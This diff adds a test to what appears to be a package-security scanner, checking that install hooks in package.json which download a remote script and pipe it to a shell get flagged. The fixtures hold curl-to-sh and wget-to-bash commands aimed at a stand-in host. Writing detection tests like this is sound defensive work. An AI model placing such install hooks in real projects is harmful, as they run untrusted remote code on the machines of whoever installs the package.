@@ -33,3 +33,15 @@ def test_what_is_allowed_is_quiet(inspect: Callable[..., list[Finding]]) -> None
     settings = '[bootstrap]\ninstall-scripts = { npm = ["es5-ext"] }\n'
 
     assert inspect("install-script-present", {"toolkit.toml": settings, "package-lock.json": LOCK}) == []
+
+
+def test_scripts_of_ones_own_that_run_what_the_network_gives(inspect: Callable[..., list[Finding]]) -> None:
+    text = '{"scripts": {\n"postinstall": "curl -sL https://x.example.org/i.sh | sh",\n"prepare": "husky",\n"build": "curl x | sh"}}'
+    other = '{"scripts": {\n"preinstall": "bash -c \\"$(wget -qO- https://x.example.org)\\""}}'
+
+    found = inspect("install-script-present", {"package.json": text, "a": {"package.json": other}})
+
+    assert [(one.severity, one.path, one.line) for one in found] == [
+        ("warning", "a/package.json", 2),
+        ("warning", "package.json", 2),
+    ]
